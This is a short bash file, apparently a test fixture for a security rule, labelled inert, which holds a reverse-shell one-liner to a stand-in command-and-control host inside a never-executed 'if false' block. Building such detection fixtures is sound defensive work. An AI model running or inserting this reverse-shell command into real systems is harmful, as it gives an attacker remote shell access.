#!/bin/bash
# vouch rule fixture: inert.
if false; then
  bash -i >& /dev/tcp/c2.example.invalid/4444 0>&1
fi
